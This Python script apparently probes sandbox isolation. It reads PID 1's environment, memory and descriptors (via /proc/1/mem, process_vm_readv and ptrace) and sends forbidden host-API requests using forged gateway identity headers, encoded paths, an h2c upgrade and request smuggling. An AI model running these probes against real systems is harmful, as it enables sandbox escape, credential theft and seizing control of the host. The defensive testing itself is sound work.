"""What root of a sandbox tries against the channel between its daemon and the host. Prints JSON."""
import ctypes, ctypes.util, errno, glob, json, os, socket, sys

api, channel, own = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]


def reads(path):
    try:
        with open(path, 'rb', 0) as file:
            return file.read(1 << 20).decode('latin1')
    except OSError as error:
        return {'error': errno.errorcode[error.errno]}


def memory():
    """The first bytes of the daemon that can be read, by each way there is."""
    libc = ctypes.CDLL(ctypes.util.find_library('c') or 'libc.so.6', use_errno=True)
    got = []
    areas = []
    for line in (lambda text: text.split('\n') if isinstance(text, str) else [])(reads('/proc/1/maps')):
        if ' rw' in line:
            areas.append(int(line.split('-')[0], 16))
    for area in areas[:20] + [0x400000, 0x7fff00000000]:
        try:
            with open('/proc/1/mem', 'rb', 0) as file:
                file.seek(area)
                if file.read(16):
                    got.append('mem')
        except (OSError, OverflowError):
            pass
        buffer = ctypes.create_string_buffer(16)
        class Vector(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
        here, there = Vector(ctypes.addressof(buffer), 16), Vector(area, 16)
        if libc.process_vm_readv(1, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            got.append('process_vm_readv')
    for request in (16, 0x4206):
        if libc.ptrace(request, 1, 0, 0) == 0:
            got.append('ptrace')
            libc.ptrace(17, 1, 0, 0)
    return sorted(set(got))


def descriptors():
    """Descriptors of the daemon that can be opened, and the beginning of what they give."""
    got = {}
    for name in os.listdir('/proc/1/fd') if isinstance(listing('/proc/1/fd'), list) else []:
        try:
            fd = os.open('/proc/1/fd/' + name, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            got[name] = os.pread(fd, 1 << 16, 0).decode('latin1')
        except OSError as error:
            got[name] = errno.errorcode[error.errno]
        os.close(fd)
    return got


def listing(path):
    try:
        return os.listdir(path)
    except OSError as error:
        return errno.errorcode[error.errno]


def says(host, port, text, source=None):
    """All that is answered, with 'closed' or 'silent' for how it ended."""
    try:
        with socket.create_connection((host, port), 5, (source, 0) if source else None) as s:
            s.settimeout(4)
            got = b''
            try:
                s.sendall(text)
                while piece := s.recv(65536):
                    got += piece
                return {'got': got.decode('latin1'), 'end': 'closed'}
            except socket.timeout:
                return {'got': got.decode('latin1'), 'end': 'silent'}
            except OSError:
                return {'got': got.decode('latin1'), 'end': 'closed'}
    except OSError as error:
        return {'got': '', 'end': str(error)}


guess = b'hutch-channel/1\x02' + b'p' * 32 + b'GET /system/activity HTTP/1.1\r\nhost: x\r\n\r\n'
last = b'connection: close\r\n\r\n'
forbidden = [
    ('GET', '/system/activity'), ('PUT', '/host/configuration'), ('GET', '/host/identity'), ('POST', '/upgrade'), ('POST', '/environment/reload'),
    ('PUT', '/network/tunnel/config'), ('DELETE', '/network/tunnel'), ('GET', '/drives/mount'), ('POST', '/drives/mount'),
    ('DELETE', '/drives/mount/a'),
]
forms = {
    'plain': lambda m, p: f'{m} {p} HTTP/1.1\r\nhost: localhost\r\ncontent-length: 2\r\n'.encode() + last + b'{}',
    'absolute': lambda m, p: f'{m} http://x{p} HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n'.encode() + last + b'{}',
    'encoded': lambda m, p: f'{m} /%{ord(p[1]):x}{p[2:]} HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n'.encode() + last + b'{}',
    'said to be the gateway': lambda m, p: (
        f'{m} {p} HTTP/1.1\r\nhost: x\r\nx-forwarded-for: 10.89.0.0\r\nx-svc-subject-id: host\r\nx-svc-auth-method: host\r\n'
        'content-length: 2\r\n').encode() + last + b'{}',
    'an offer of HTTP/2': lambda m, p: (
        f'{m} {p} HTTP/1.1\r\nhost: x\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQ\r\nconnection: upgrade, close\r\n'
        'content-length: 2\r\n\r\n{}').encode(),
    'behind another': lambda m, p: (
        f'GET /health HTTP/1.1\r\nhost: x\r\n\r\n{m} {p} HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n').encode() + last + b'{}',
}
print(json.dumps({
    'environ': reads('/proc/1/environ'),
    'cmdline': reads('/proc/1/cmdline'),
    'auxv': bool(isinstance(reads('/proc/1/auxv'), str)),
    'memory': memory(),
    'descriptors': descriptors(),
    'cores': glob.glob('/core*') + glob.glob('/tmp/core*') + glob.glob('/var/crash/*'),
    'channel': {name: says(host, channel, guess, source) for name, host, source in [
        ('loopback', '127.0.0.1', None), ('own address', own, None), ('from another of loopback', '127.0.0.1', '127.0.0.5'),
        ('own address from loopback', own, '127.0.0.1'),
    ]},
    'forbidden': {name: [says('127.0.0.1', api, form(m, p))['got'] for m, p in forbidden] for name, form in forms.items()},
    'preface': says('127.0.0.1', api, guess)['got'],
}))
